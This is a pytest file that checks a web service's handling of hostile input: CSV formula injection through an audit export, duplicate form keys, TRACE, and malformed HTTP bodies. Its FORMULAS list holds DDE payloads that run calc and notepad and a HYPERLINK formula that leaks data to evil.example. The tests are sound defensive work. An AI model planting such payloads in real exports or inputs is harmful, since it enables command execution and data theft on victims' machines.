"""Hostile input below the module's endpoints (issue 13, item 3 and 7): CSV
formula injection through the audit export, duplicate form keys, TRACE, and
bodies httpd itself refuses under the API."""
import csv
import io
import os
import socket

import requests

from conftest import PASSWORD
from staff import Staff, cicpa_admin, create_staff

# What an anonymous visitor may type as a member number: Excel and WPS run
# the first as a DDE command and follow the second.
FORMULAS = ["@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
            "+1+cmd|' /C notepad'!A0", "-2+3"]


def test_export_audit_neutralises_formulas_typed_by_visitors(api, db):
    for formula in FORMULAS:
        r = api.login(formula, password="Wrong#2026")
        assert r.status_code == 401, r.text
    rc, out, err = cicpa_admin(db, "export-audit")
    assert rc == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    exported = {row[3] for row in rows[1:] if row[4] == "login_failed"}
    for formula in FORMULAS:
        assert "'" + formula in exported, (formula, out[-2000:])
    # No cell of any row starts a formula.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def form_post(api, body):
    return requests.post(api.url("/login"), data=body.encode(),
                         headers={"Content-Type": "application/x-www-form-urlencoded"})


def test_duplicate_form_keys_are_refused_like_duplicate_json_keys(api):
    captcha_id, answer = api.captcha()
    r = form_post(api, f"user_type=non_practicing&member_no=110000000001&password={PASSWORD}"
                       f"&member_no=110000000003&captcha_id={captcha_id}&captcha={answer}")
    assert r.status_code == 400 and r.json()["error"]["code"] == "malformed_form", r.text
    assert "session" not in "".join(r.cookies.keys())
    json_twice = ('{"user_type":"non_practicing","member_no":"110000000001","member_no":"110000000003",'
                  f'"password":"{PASSWORD}"}}')
    r = requests.post(api.url("/login"), data=json_twice, headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and r.json()["error"]["code"] == "malformed_json"
    # Sent once each, the same form logs in.
    captcha_id, answer = api.captcha()
    r = form_post(api, f"user_type=non_practicing&member_no=110000000001&password={PASSWORD}"
                       f"&captcha_id={captcha_id}&captcha={answer}")
    assert r.status_code == 200, r.text


def raw_request(server, request):
    """Sends request bytes as they are; returns (status, headers text, body)."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as c:
        c.sendall(request)
        answer = b""
        while chunk := c.recv(65536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), head.decode("latin-1"), body


def test_trace_is_off(httpd):
    status, _, body = raw_request(httpd, b"TRACE /cert/api/me HTTP/1.1\r\nHost: x\r\n"
                                         b"Cookie: cicpa_session=secret\r\nConnection: close\r\n\r\n")
    assert status == 405
    assert b"secret" not in body


def assert_json_400(status, head, body):
    assert status == 400, head
    assert "Content-Type: application/json" in head, head
    error = __import__("json").loads(body)["error"]
    assert error["code"] == "bad_request" and error["message"] == "请求内容无法读取"


def test_a_malformed_chunk_size_gets_the_json_error_shape(httpd):
    for path in (b"/cert/api/login", b"/cert/admin/api/login"):
        assert_json_400(*raw_request(httpd, b"POST " + path + b" HTTP/1.1\r\nHost: x\r\n"
                                     b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                                     b"Connection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"))


def test_a_negative_content_length_gets_the_json_error_shape(httpd):
    assert_json_400(*raw_request(httpd, b"POST /cert/api/login HTTP/1.1\r\nHost: x\r\n"
                                 b"Content-Type: application/json\r\nContent-Length: -5\r\n"
                                 b"Connection: close\r\n\r\n"))


def test_an_audit_filter_too_long_names_the_real_cause(httpd, db):
    login = create_staff(db, "faults-%d" % os.getpid(), "00")
    staff = Staff(httpd.url)
    assert staff.login(login).status_code == 200
    r = staff.get("/audit", params={"member_no": "1" * 100})
    assert r.status_code == 400
    error = r.json()["error"]
    assert error["code"] == "bad_filter" and "过长" in error["message"] and "日期" not in error["message"]
    r = staff.get("/audit", params={"from": "2026-13-01"})
    assert r.status_code == 400 and "日期" in r.json()["error"]["message"]
